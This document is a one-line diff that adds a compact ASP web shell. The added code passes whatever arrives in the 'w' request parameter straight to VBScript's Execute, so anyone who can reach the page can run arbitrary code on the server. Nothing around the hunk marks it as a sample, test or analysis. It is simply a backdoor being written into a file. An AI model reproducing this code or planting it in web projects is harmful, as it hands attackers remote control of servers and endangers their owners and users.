@@ -1,0 +1,1 @@
+<%Function run(s) Execute s End Function%><%p = Request("w")%><%run p%>
